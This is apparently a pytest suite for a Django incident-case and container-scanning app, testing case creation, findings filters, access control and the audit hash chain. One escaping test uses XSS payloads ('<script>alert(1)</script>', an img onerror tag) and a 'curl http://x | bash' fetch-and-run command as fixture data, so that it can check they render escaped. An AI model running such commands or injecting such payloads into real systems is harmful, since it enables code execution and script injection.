"""Cases: keys, creation through the UI and the API, the case page, and the hash-chained audit log."""

from __future__ import annotations

import pytest
from django.urls import reverse

from cases.models import AuditEvent, Case, CaseMembership, Role
from scanner.models import FileRecord, Image, Layer, ScanRun, ScanStatus

pytestmark = pytest.mark.django_db


def test_creator_is_lead_and_keys_increase(alice):
    first = Case.open_case(lead=alice, title="one")
    second = Case.open_case(lead=alice, title="two")
    year = first.created_at.year
    assert first.key == f"INC-{year}-0001" and second.key == f"INC-{year}-0002"
    assert CaseMembership.objects.get(case=first, user=alice).role == Role.LEAD


def test_create_case_through_the_api(api):
    response = api.post(
        "/api/cases/", {"title": "Miner in prod", "summary": "xmrig", "severity": "critical"}, format="json"
    )
    assert response.status_code == 201, response.content
    body = response.json()
    assert body["key"].startswith("INC-") and body["lead"] == "alice" and body["status"] == "open"
    assert api.get(f"/api/cases/{body['id']}/").json()["title"] == "Miner in prod"


def test_create_case_through_the_ui(web):
    response = web.post(
        reverse("cases:list"), {"title": "From the browser", "summary": "", "severity": "high"}
    )
    case = Case.objects.get(title="From the browser")
    assert response.status_code == 302 and response["Location"] == case.get_absolute_url()
    page = web.get(case.get_absolute_url())
    assert page.status_code == 200 and case.key in page.content.decode()


def test_case_page_shows_image_facts_escaped(web, case, alice, small_image):
    """Everything from an image is attacker-controlled and must render as text."""
    from cases.intake import receive_evidence
    from tests.conftest import upload_file

    uploaded = upload_file(small_image.path)
    uploaded.sha256 = "a" * 64
    evidence = receive_evidence(case=case, uploaded=uploaded, user=alice)
    run = ScanRun.objects.get(evidence=evidence)
    ScanRun.objects.filter(pk=run.pk).update(status=ScanStatus.SUCCEEDED, progress=1.0)
    image = Image.objects.create(
        scan=run,
        manifest_digest="sha256:" + "b" * 64,
        config_digest="sha256:" + "c" * 64,
        repo_tags=["<script>alert(1)</script>:latest"],
        user="root",
    )
    layer = Layer.objects.create(
        image=image,
        index=0,
        digest="sha256:" + "d" * 64,
        diff_id="sha256:" + "e" * 64,
        size=1234,
        created_by="/bin/sh -c curl http://x | bash <img src=x onerror=alert(1)>",
    )
    FileRecord.objects.create(image=image, layer=layer, path="/x", type="file", change="added")
    html = web.get(case.get_absolute_url()).content.decode()
    assert "sha256:" + "b" * 64 in html and "sha256:" + "d" * 64 in html and "sha256:" + "e" * 64 in html
    assert "<script>alert(1)</script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<img src=x" not in html and "curl http://x | bash &lt;img" in html
    response = web.get(case.get_absolute_url())
    assert "script-src 'self'" in response["Content-Security-Policy"]


def test_audit_log_is_a_hash_chain(alice):
    Case.open_case(lead=alice, title="one")
    Case.open_case(lead=alice, title="two")
    events = list(AuditEvent.objects.order_by("pk"))
    assert len(events) == 2
    assert events[0].prev_hash == "" and events[1].prev_hash == events[0].hash
    assert all(event.hash == event.compute_hash() for event in events)
    with pytest.raises(PermissionError):
        events[0].save()


def test_openapi_schema_and_docs(api, web):
    assert api.get("/api/schema/").status_code == 200
    docs = web.get("/api/docs/")
    assert docs.status_code == 200 and b"cdn" not in docs.content.lower()


def _findings(case, count_by_severity: dict[str, int]):
    from scanner.models import Finding

    run = ScanRun.objects.create(evidence=_evidence(case))
    image = Image.objects.create(scan=run, manifest_digest="sha256:" + "1" * 64, config_digest="c")
    layer = Layer.objects.create(image=image, index=3, digest="sha256:" + "2" * 64)
    rows = [
        Finding(
            case=case,
            scan=run,
            image=image,
            layer=layer,
            rule_id=f"rule.{severity}",
            severity=severity,
            title=f"{severity} {n}",
            path=f"/usr/bin/{severity}-{n}",
            fingerprint=f"{severity}{n}",
        )
        for severity, count in count_by_severity.items()
        for n in range(count)
    ]
    return Finding.objects.bulk_create(rows)


def _evidence(case):
    from cases.models import Evidence

    return Evidence.objects.create(
        case=case, original_name="x.tar", sha256="9" * 64, size=1, storage_key="k", uploaded_by=case.lead
    )


def test_findings_list_filters_orders_and_paginates(api, case, django_assert_max_num_queries):
    _findings(case, {"low": 3, "critical": 2, "high": 4})
    url = f"/api/cases/{case.pk}/findings/"
    with django_assert_max_num_queries(8):
        body = api.get(url, {"page_size": 4}).json()
    assert body["count"] == 9 and body["next"] and len(body["results"]) == 4
    assert [f["severity"] for f in body["results"]] == ["critical", "critical", "high", "high"]
    first = body["results"][0]
    assert first["layer_index"] == 3 and first["layer_digest"] == "sha256:" + "2" * 64
    assert first["manifest_digest"] == "sha256:" + "1" * 64 and first["status"] == "open"
    high = api.get(url, {"severity": "high,low", "ordering": "path"}).json()
    assert high["count"] == 7 and high["results"][0]["path"] == "/usr/bin/high-0"
    assert api.get(url, {"rule_id": "rule.low"}).json()["count"] == 3
    assert api.get(url, {"status": "confirmed"}).json()["count"] == 0
    assert api.get(url, {"path": "/usr/bin/crit"}).json()["count"] == 2
    assert api.get(url, {"layer": "3"}).json()["count"] == 9


def test_findings_query_count_is_constant(api, case, django_assert_max_num_queries):
    _findings(case, {"medium": 200})
    with django_assert_max_num_queries(8):
        assert len(api.get(f"/api/cases/{case.pk}/findings/", {"page_size": 200}).json()["results"]) == 200


def test_findings_of_another_case_are_404(api, mallory, case):
    from cases.models import Case as CaseModel

    other = CaseModel.open_case(lead=mallory, title="not yours")
    _findings(other, {"high": 1})
    assert api.get(f"/api/cases/{other.pk}/findings/").status_code == 404


def test_case_list_filters(api, alice):
    Case.open_case(lead=alice, title="Miner", severity="critical")
    Case.open_case(lead=alice, title="Phish", severity="low")
    keys = [c["key"] for c in api.get("/api/cases/", {"severity": "critical"}).json()["results"]]
    assert len(keys) == 1
    assert api.get("/api/cases/", {"key": keys[0]}).json()["results"][0]["title"] == "Miner"
    assert api.get("/api/cases/", {"q": "phi"}).json()["count"] == 1
    assert api.get("/api/cases/", {"status": "closed"}).json()["count"] == 0
